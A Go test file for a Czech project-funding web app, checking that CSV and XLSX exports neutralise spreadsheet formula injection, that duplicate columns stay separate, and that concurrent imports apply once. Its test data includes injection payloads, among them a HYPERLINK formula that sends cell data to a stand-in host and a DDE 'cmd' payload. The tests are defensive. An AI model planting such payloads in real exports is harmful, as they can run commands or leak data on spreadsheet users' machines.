package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/xuri/excelize/v2"
)

// formulas are cells that a spreadsheet would run.
var formulas = []string{`=HYPERLINK("http://example.org/?x="&A1,"klikněte")`, "+420 777 000 000 & co.", "-5+cmd|' /C calc'!A0", "@SUM(A1:A9)", "=1+1", "＝1+1"}

func (v visitor) file(path string) []byte {
	v.t.Helper()
	r, err := http.Get(v.origin + path)
	if err != nil {
		v.t.Fatal(err)
	}
	defer r.Body.Close()
	data, err := io.ReadAll(r.Body)
	if err != nil || r.StatusCode != http.StatusOK {
		v.t.Fatalf("%s: %s %v", path, r.Status, err)
	}
	return data
}

func TestFormulasOfAListStayTextAndNoExportMakesThemLive(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	var list bytes.Buffer
	w := csv.NewWriter(&list)
	rows := [][]string{{"nazev", "realizator", "partneri", "donor", "program", "od", "do", "celkem_kc", "dotace_kc", "vlastni_zdroje_kc", "uzemi", "cilova_skupina", "temata", "stav", "zdroj_url", "poznamka"}}
	for i, f := range append(formulas, "\t=2+2", "\r=3+3") {
		rows = append(rows, []string{f, fmt.Sprintf("=Spolek %d", i), "@partner", f, f, "2021", "2021", "=1+1", "", "", f, f, f, "realizován", "https://www.example.cz/a", f})
	}
	if err := w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	write(t, dir, "seznam.csv", list.String())
	atlasRun(t, dir, "import", "projects", "seznam.csv", "--publish").said(t, exitOK, "vytvořeno 8")
	_, v := serveOpen(t, dir)
	for _, face := range []string{"", "/en"} {
		for _, set := range []string{"projekty", "financovani", "indikatory", "akteri", "vyzvy"} {
			v.noneLive(face + "/export/" + set)
		}
	}
	kept := string(v.file("/export/projekty.json"))
	for _, f := range formulas[1:4] {
		if !strings.Contains(strings.ReplaceAll(kept, `\u0026`, "&"), f) {
			t.Errorf("%q is not kept as text", f)
		}
	}
	// What came out goes in again as it was, without the apostrophes.
	write(t, dir, "zpet.csv", string(v.file("/export/projekty.csv")))
	atlasRun(t, dir, "import", "projects", "zpet.csv", "--publish", "--data", filepath.Join(dir, "jina")).said(t, exitOK, "vytvořeno 8")
	_, again := serveOpen(t, dir, "--data", filepath.Join(dir, "jina"))
	again.says(again.get("/projekty"), http.StatusOK, "+420 777 000 000", "@SUM(A1:A9)")
	if p := again.get("/projekty"); strings.Contains(p.words, "'@SUM") {
		t.Error("an apostrophe came in")
	}
}

// noneLive demands that no cell of a data set would run in a spreadsheet.
func (v visitor) noneLive(set string) {
	v.t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(v.file(set+".csv"), []byte("\ufeff"))))
	r.Comma = ';'
	all, err := r.ReadAll()
	if err != nil {
		v.t.Fatalf("%s: %v", set, err)
	}
	for n, row := range all {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				v.t.Errorf("%s.csv, row %d would run %q", set, n+1, cell)
			}
		}
	}
	book, err := excelize.OpenReader(bytes.NewReader(v.file(set + ".xlsx")))
	if err != nil {
		v.t.Fatalf("%s: %v", set, err)
	}
	defer book.Close()
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet)
		if err != nil {
			v.t.Fatal(err)
		}
		for y, row := range rows {
			for x := range row {
				at, _ := excelize.CoordinatesToCellName(x+1, y+1)
				if f, err := book.GetCellFormula(sheet, at); err != nil || f != "" {
					v.t.Errorf("%s.xlsx, %s %s would run %q, %v", set, sheet, at, f, err)
				}
			}
		}
	}
}

func TestColumnsOfOneNameKeepTheirCellsApart(t *testing.T) {
	t.Parallel()
	_, v := serveOpen(t, t.TempDir())
	list := "Název projektu;Příjemce;Poznámka;Poznámka;Poznámka\nKurzy češtiny;Spolek Mosty;první;druhá;třetí\nPoradna;Spolek Mosty;čtvrtá;pátá;šestá\n"
	preview := v.upload("", "seznam.csv", []byte(list))
	v.says(preview, http.StatusOK, "2 projekty se založí", "Poznámka (2)", "Poznámka (3)")
	done := v.apply(preview.address)
	v.says(done, http.StatusOK, "D-00001", "Kurzy češtiny")
	record := v.get("/projekty/P-00001")
	v.says(record, http.StatusOK, "první", "druhá", "třetí")
}

func TestTwoWhoApplyAtOnceTakeEachListOnce(t *testing.T) {
	t.Parallel()
	eachDatabase(t, func(t *testing.T, flags ...string) {
		_, v := serveOpen(t, t.TempDir(), flags...)
		first := v.upload("", "jeden.csv", []byte(operationsList(300)))
		second := v.upload("/en", "druhy.csv", []byte(operationsList(200))) // all of it is in the first too
		var all sync.WaitGroup
		for _, address := range []string{first.address, second.address, first.address, second.address} {
			all.Go(func() {
				r, err := http.Post(address, "application/x-www-form-urlencoded", nil)
				if err != nil {
					t.Error(err)
					return
				}
				r.Body.Close()
			})
		}
		all.Wait()
		v.settled(v.read(http.Get(first.address)))
		v.settled(v.read(http.Get(second.address)))
		batches := v.get("/import")
		v.says(batches, http.StatusOK, "D-00001", "D-00002")
		if strings.Contains(batches.words, "D-00003") {
			t.Error("a list went in twice")
		}
		if p := v.get("/projekty/P-00300"); p.status != http.StatusOK {
			t.Errorf("the last project: %d", p.status)
		}
		if p := v.get("/projekty/P-00301"); p.status != http.StatusNotFound {
			t.Errorf("a project too many: %d", p.status)
		}
	})
}
